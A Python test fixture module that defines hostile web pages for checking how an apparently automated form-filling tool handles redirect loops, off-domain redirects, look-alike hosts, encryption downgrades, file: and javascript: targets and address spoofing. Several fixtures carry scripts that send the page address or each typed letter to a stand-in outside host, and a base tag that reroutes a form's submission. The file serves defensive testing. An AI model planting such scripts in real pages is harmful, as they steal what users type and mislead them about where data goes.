# ruff: noqa: E501 - a page's script stays in one piece
"""Pages that lead on: in circles, to another organisation, out of encryption, to what is no page."""

from collections.abc import Iterator

from tests.channels.web.acme import FORM_END, HOST, RECEIPT
from tests.hostile.page import (
    DONE,
    ELSEWHERE,
    FORM_CHANGED,
    IN_CIRCLES,
    LAYOUT_UNKNOWN,
    OFF_DOMAIN,
    Hostile,
    Right,
    either,
    html,
    opt_out,
    redirect,
    scripted,
)
from tests.hostile.recorder import FOREIGN, Piece, Request

EVERYWHERE = ("form", "answer", "search")
BROWSER = ("browser",)


def _longer(request: Request) -> Iterator[Piece]:
    """Sends on to an address that is longer each time, so that no two are the same."""
    yield from redirect(302, request.target + ("x" if "?" in request.target else "?x"))(request)


def _moved(status: int) -> Hostile:
    return Hostile(
        f"redirect-{status}-elsewhere",
        f"answers {status} with the address of another organisation",
        redirect(status, f"{ELSEWHERE}/collect"),
        OFF_DOMAIN,
        places=EVERYWHERE,
    )


def _waiting(name: str, does: str, markup: str, right: Right = OFF_DOMAIN) -> Hostile:
    page = html(f"<h1>Please wait</h1><p>You are being taken on.</p>{markup}")
    return Hostile(name, does, page, right, places=EVERYWHERE, plainly=LAYOUT_UNKNOWN)


def _lured(name: str, does: str, where: str, right: Right = OFF_DOMAIN) -> Hostile:
    return Hostile(name, does, redirect(302, where), right, places=EVERYWHERE)


PAGES = (
    _lured("redirect-loop", "redirects to itself for ever", "?again", IN_CIRCLES),
    Hostile("growing-redirect-loop", "redirects to ever new addresses", _longer, IN_CIRCLES, EVERYWHERE),
    _waiting(
        "script-loop",
        "a script sends the page on to itself",
        "<script>location.replace('?' + Math.random())</script>",
        IN_CIRCLES,
    ),
    _waiting(
        "meta-refresh-loop",
        "a meta refresh sends the page on to itself",
        "<meta http-equiv=refresh content='0'>",
        IN_CIRCLES,
    ),
    *(_moved(status) for status in (301, 302, 303, 307, 308)),
    _waiting(
        "meta-refresh-elsewhere",
        "a meta refresh leads to another organisation",
        f"<meta http-equiv=refresh content='0; url={ELSEWHERE}/collect'>",
    ),
    _waiting(
        "script-elsewhere",
        "a script leads to another organisation",
        f"<script>location = '{ELSEWHERE}/collect?' + encodeURIComponent(location.href)</script>",
    ),
    Hostile(
        "refresh-header",
        "a Refresh header leads to another organisation",
        html("<h1>Please wait</h1><p>You are being taken on.</p>", refresh=f"0; url={ELSEWHERE}/x"),
        OFF_DOMAIN,
        EVERYWHERE,
        plainly=LAYOUT_UNKNOWN,
    ),
    _lured("look-alike-suffix", "a host that begins like the provider's", f"https://{HOST}.{FOREIGN}/"),
    _lured("look-alike-prefix", "a host that ends like the provider's", f"https://not{HOST}/"),
    _lured("user-name-trick", "the provider's host as a user name", f"https://{HOST}@{FOREIGN}/"),
    _lured("no-scheme", "an address without a scheme", f"//{FOREIGN}/collect"),
    _lured(
        "backslashes", "backslashes that a browser takes for slashes", f"https:\\\\{FOREIGN}\\collect"
    ),
    _lured("another-port", "another port of the provider's host", f"https://{HOST}:8443/collect"),
    _lured("no-encryption", "the same page without encryption", f"http://{HOST}/plain?name=x"),
    Hostile(
        "no-encryption-307",
        "repeats the form without encryption",
        redirect(307, f"http://{HOST}/again"),
        FORM_CHANGED,
        ("answer",),
    ),
    _lured("redirect-to-data", "redirects to a data: page", "data:text/html,<h1>Request received</h1>"),
    _lured("redirect-to-file", "redirects to a file of this machine", "file:///etc/hostname"),
    Hostile(
        "redirect-to-script",
        "redirects to javascript:, where a browser does not go and does not say so",
        redirect(302, "javascript:document.write(1)"),
        LAYOUT_UNKNOWN,
        EVERYWHERE,
        plainly=OFF_DOMAIN,
    ),
    _lured("redirect-to-nonsense", "redirects to what is no address", "https://["),
    _lured("redirect-to-no-port", "redirects to a port that cannot be", f"https://{HOST}:99999/"),
    Hostile(
        "redirect-nowhere",
        "a redirect that does not say where to",
        html("<h1>Moved</h1><p>It is somewhere else now.</p>", 302),
        LAYOUT_UNKNOWN,
        EVERYWHERE,
    ),
    _waiting(
        "to-a-blob",
        "goes on to a page that its script has made",
        "<script>location = URL.createObjectURL(new Blob(["
        f"'<h1>Acme search</h1><p>No results for this name</p>{RECEIPT}'], {{type: 'text/html'}}))</script>",
    ),
    _waiting(
        "to-data",
        "a script goes on to a data: page",
        f"<script>location = 'data:text/html,{RECEIPT}'</script>",
        LAYOUT_UNKNOWN,
    ),
    _waiting(
        "to-a-file",
        "a script goes on to a file of this machine",
        "<script>location = 'file:///etc/hostname'</script>",
        LAYOUT_UNKNOWN,
    ),
    Hostile(
        "spoofed-address",
        "a script changes the address that is shown",
        scripted("history.pushState('', '', '/receipt?done=Request+received')"),
        DONE,
        posts=1,
        learns=True,
    ),
    Hostile(
        "base-elsewhere",
        "a base address leads the form's own action elsewhere",
        opt_out(start=f'<base href="{ELSEWHERE}/"><h1>Opt out</h1><form method=post action="send">'),
        OFF_DOMAIN,
    ),
    Hostile(
        "away-while-filling",
        "goes to another page at the first letter",
        scripted("document.addEventListener('input', () => { location = '/other' })"),
        either(LAYOUT_UNKNOWN, FORM_CHANGED),
        ways=BROWSER,
        others={"/other": html("<h1>Something else</h1><p>Nothing to see here.</p>")},
        learns=True,
    ),
    Hostile(
        "away-to-elsewhere-while-filling",
        "takes the first letters to another organisation",
        scripted(
            "document.addEventListener('input', e => "
            f"{{ location = '{ELSEWHERE}/?' + encodeURIComponent(e.target.value) }})"
        ),
        OFF_DOMAIN,
        ways=BROWSER,
        learns=True,
    ),
    Hostile(
        "endless-history",
        "fills the history while the form is open",
        opt_out(
            end=FORM_END + "<script>for (let n = 0; n < 150; n++) history.pushState(0, '', '#' + n)"
            "</script>"
        ),
        DONE,
        posts=1,
        learns=True,
    ),
)
